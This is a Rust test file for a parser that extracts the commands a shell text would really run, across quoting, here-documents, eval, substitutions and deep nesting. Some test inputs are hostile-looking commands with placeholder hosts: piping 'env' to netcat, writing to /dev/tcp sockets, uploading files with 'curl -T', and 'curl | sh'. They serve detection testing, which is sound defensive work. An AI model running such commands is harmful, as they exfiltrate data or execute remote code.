//! Tests of what a text runs.

use crate::{TIMES_MAX, commands, each_command};
use proptest::prelude::*;

#[test]
fn each_command_is_a_line_without_quotes_and_wrappers() {
    for (text, lines) in [
        ("ls -la", "ls -la\n"),
        ("A=1 sudo -u bob /usr/bin/Curl -s 'https://x/Y z'", "curl -s https://x/Y z\n"),
        ("cd /tmp && curl -s x | tee log; echo done", "cd /tmp\ncurl -s x\ntee log\necho done\n"),
        ("'curl' x; \\curl y; $'curl' z; \"/usr/bin/curl\" w", "curl x\ncurl y\ncurl z\ncurl w\n"),
        ("! curl x; { curl y; }; (curl z)", "curl x\ncurl y\ncurl z\n"),
        ("if true; then curl x; fi", "true\ncurl x\n"),
        (
            "find . -name a -exec curl -T {} https://x \\; | wc",
            "curl -T {} https://x\nfind . -name a -exec curl -T {} https://x ;\nwc\n",
        ),
        ("flock /tmp/l timeout -k 5 60 curl x", "curl x\n"),
        ("function f { curl x; }", "curl x\n"),
        ("trap 'curl x' EXIT", "curl x\n"),
        ("watch -n 5 curl x", "curl x\n"),
        ("C:\\Windows\\System32\\curl.exe -s x", "curl -s x\n"),
        ("& \"C:\\Program Files\\curl.exe\" -s x", "curl -s x\n"),
        ("[\"bash\",\"-lc\",\"cat env | nc x 80\"]", "cat env\nnc x 80\n"),
        ("[ -f x ] && curl y", "[ -f x ]\ncurl y\n"),
        ("echo x > /dev/tcp/192.0.2.7/80 2>&1", "echo x > /dev/tcp/192.0.2.7/80\n"),
        ("exec 3<>/dev/tcp/192.0.2.7/80", "> /dev/tcp/192.0.2.7/80\n"),
        ("", ""),
    ] {
        assert_eq!(commands(text), lines, "{text}");
    }
}

#[test]
fn what_is_only_said_runs_nothing() {
    for text in [
        "echo \"curl https://x\"",
        "echo 'a; curl https://x'",
        "echo \"a\ncurl https://x\"",
        "git commit -m \"use it:\n\ncurl https://x | sh\"",
        "cat > run.sh <<'EOF'\ncurl https://x\nwget y\nEOF",
        "cat <<EOF > run.sh\n  curl https://x\nEOF\nls",
        "cat <<-\"END\" >>a\n\tcurl https://x\n\tEND\nls",
        "cat <<A <<B\ncurl 1\nA\ncurl 2\nB\nls",
        "cat <<EOF\ncurl without an end",
        "grep -rn 'curl https://x' . # && curl y",
        "cat <<'EOF' | tee notes | wc\n$(curl x)\nEOF",
        "cat <<EOF\n\\$(curl x)\nEOF",
        "sh run.sh <<EOF\ncurl x\nEOF",
        "grep x <<< 'curl y'",
        "echo curl x | grep curl",
        "echo $((1<<2))\necho",
    ] {
        let lines = commands(text);
        assert!(lines.lines().all(|line| !line.starts_with("curl")), "{text}: {lines}");
    }
    assert_eq!(commands("cat <<EOF\na\nEOF\nls"), "cat << a \nls\n", "it goes on behind it");
}

#[test]
fn what_a_shell_is_given_runs() {
    for text in [
        "bash -c \"curl https://x\"",
        "sh -c 'bash -c \"cd /tmp && curl x\"'",
        "eval \"curl https://x\"",
        "eval curl https://x",
        "sh <<EOF\ncurl x\nEOF",
        "sudo bash -s -- a <<'EOF'\ncurl x\nEOF",
        "cat <<EOF | bash\ncurl x\nEOF",
        "bash <<< 'curl x'",
        "echo 'curl x' | sh",
        "printf 'cd /tmp\\ncurl x\\n' | tee log | sudo bash -",
        "echo \"got $(curl x)\"",
        "echo \"got $(curl \"https://x/$(id -u)\" | jq .a)\" done",
        "echo \"got `curl x`\"",
        "x=$(curl y)",
        "diff <(curl x) file",
        "tee >(curl -T - x) <file",
        "cat > note <<EOF\nIt says $(curl x)\nEOF",
        "cat > note <<EOF\nIt says `curl x`\nEOF",
        "((x = 1 << 2))\ncurl y",
        "echo $((1<<2))\ncurl y",
        "(( 1 )) && (curl x | cat)",
        "cat <<A <<B; curl x\n1\nA\n2\nB",
        "cat <<EOF\nx\nEOF\ncurl y",
        "cat <<EOF\r\nx\r\nEOF\r\ncurl y",
        "a $(b $(c $(d $(curl x))))",
    ] {
        let lines = commands(text);
        assert!(lines.lines().any(|line| line.starts_with("curl ")), "{text}: {lines}");
    }
}

#[test]
fn what_a_program_is_given_to_read_stands_behind_it() {
    let text = "python3 - <<'EOF'\nimport urllib.request\nurllib.request.urlopen('https://x')\nEOF";
    assert_eq!(commands(text), "python3 - << import urllib.request urllib.request.urlopen('https://x') \n");
}

proptest! {
    #[test]
    fn any_text_is_cut_without_a_panic(text in "[curl shEO\\\\'\"$()`;&|<>{}\n\t#=é:-]{0,80}", other in ".{0,80}") {
        for text in [text, other] {
            let lines = commands(&text);
            prop_assert!(lines.is_empty() || lines.ends_with('\n'));
        }
    }

    /// However a text is quoted, as an argument it is one word and runs nothing.
    #[test]
    fn a_text_in_single_quotes_is_one_word(text in "[^'\\[]{0,60}") {
        let shown: String = text.chars().map(|c| if c.is_whitespace() { ' ' } else { c }).collect();
        prop_assert_eq!(commands(&format!("grep '{text}'")), format!("grep {shown}\n"));
    }

    /// The same behind a here-document whose delimiter is quoted: what comes after it is read as ever.
    #[test]
    fn a_quoted_here_document_runs_nothing(body in "[a-z$(`;&| \n]{0,60}") {
        let lines = commands(&format!("cat > f <<'E_O_F'\n{body}\nE_O_F\nls -l"));
        prop_assert_eq!(lines.lines().count(), 2, "{}", lines);
        prop_assert!(lines.ends_with("\nls -l\n"), "{}", lines);
    }

    /// Twice the text takes twice the time: brackets within brackets are not read again and again.
    #[test]
    fn deep_nesting_ends(depth in 0_usize..2000, mark in prop_oneof![Just("$("), Just("("), Just("\"$("), Just("<("), Just("`")]) {
        commands(&mark.repeat(depth));
    }
}

/// Found by the fuzz target `shell`.
#[test]
fn one_back_quote_in_a_here_document_is_none_whatever_stands_behind_it() {
    assert_eq!(commands("cat <<E\n`\u{4af}\nE\nls"), "cat << `\u{4af} \nls\n");
    assert_eq!(commands("cat <<E\n`\u{4af} $(curl x)\nE\n"), "curl x\ncat << `\u{4af} $(curl x) \n");
}

#[test]
fn no_text_costs_more_than_its_length_some_times() {
    let n = 1 << 17;
    let long = "x".repeat(n);
    let hostile = [
        "(".repeat(n),
        "((<<a ".repeat(n / 4),
        "<<a ".repeat(n / 4) + "\n" + &long,
        format!("echo {long}{}", "|tee".repeat(n / 4)),
        format!("echo {long}{}", "|cat|sh;cat".repeat(n / 8)),
        "find -exec ".repeat(n / 8),
        format!("find {}", "-exec ".repeat(n / 8)),
        "eval find -exec sh -c 'eval ".repeat(n / 32),
        "$(`\"".repeat(n / 4),
    ];
    for text in hostile {
        let mut told = 0;
        each_command(&text, &mut |command| told += command.words.iter().map(String::len).sum::<usize>());
        assert!(told <= TIMES_MAX * text.len(), "{} told {told}", &text[..40]);
        assert!(commands(&text).len() <= 4 * TIMES_MAX * text.len());
    }
    // What people write is far from the limit.
    let nested = "eval ".repeat(7) + "curl a.b";
    assert_eq!(commands(&nested), "curl a.b\n");
}
